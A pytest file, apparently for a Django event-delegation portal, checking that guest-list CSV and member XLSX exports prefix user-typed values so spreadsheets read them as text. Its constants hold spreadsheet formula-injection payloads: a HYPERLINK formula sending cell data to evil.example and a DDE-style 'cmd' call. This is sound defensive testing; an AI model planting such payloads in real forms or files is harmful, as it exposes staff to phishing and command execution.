"""What focal points type comes out of the staff's downloads as text: a spreadsheet never runs
it as a formula (`=HYPERLINK(...)` to a phishing page, `@SUM(...)`), whichever export it is in."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from sessions.models import GalaInvitation, SessionKind
from tests import factories
from tests.hanoi_summit.secretariat.exports.downloads import body

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for your seat")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def head_of_delegation(delegation):
    return factories.MemberFactory(delegation=delegation, role="head", photo="")


def test_gala_guest_list_csv_prefixes_what_a_focal_point_typed(focal_client, head_of_delegation, client):
    gala = factories.SessionFactory(
        kind=SessionKind.GALA_DINNER, booking_mode="invitation", room=factories.RoomFactory(capacity=10)
    )
    invitation = factories.GalaInvitationFactory(session=gala, member=head_of_delegation, guest_allowed=True)
    prefix = f"g{invitation.pk}"
    response = focal_client.post(
        reverse("portal_programme:gala_respond", args=[invitation.pk]),
        {f"{prefix}-answer": "accept", f"{prefix}-guest_name": HYPERLINK, f"{prefix}-dietary_needs": SUM},
    )
    assert response.status_code == 302
    invitation.refresh_from_db()
    assert (invitation.status, invitation.guest_name, invitation.dietary_needs) == (
        GalaInvitation.Status.ACCEPTED,
        HYPERLINK,
        SUM,
    )
    client.force_login(factories.StaffUserFactory(role="Protocol officer"))
    body = client.get(reverse("protocol_programme:gala_csv")).content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(body)))
    assert row[header.index("guest")] == "'" + HYPERLINK
    assert row[header.index("dietary needs")] == "'" + SUM


def test_members_xlsx_export_prefixes_what_a_focal_point_typed(api, head_of_delegation, secretariat_client):
    response = api.patch(
        f"/api/delegation/members/{head_of_delegation.pk}/",
        {"dietary_needs": SUM, "accessibility_needs": HYPERLINK},
        format="json",
    )
    assert response.status_code == 200, response.content[:300]
    download = body(secretariat_client.get("/dashboard/exports/members.xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(download)).active
    header, *rows = list(sheet.iter_rows(values_only=True))
    (row,) = [r for r in rows if r[header.index("Dietary needs")]]
    assert row[header.index("Dietary needs")] == "'" + SUM
    assert row[header.index("Accessibility needs")] == "'" + HYPERLINK
    # The cell is text, not a formula, in the file itself.
    cells = {cell.value: cell.data_type for cell in sheet[rows.index(row) + 2]}
    assert cells["'" + SUM] == "s"
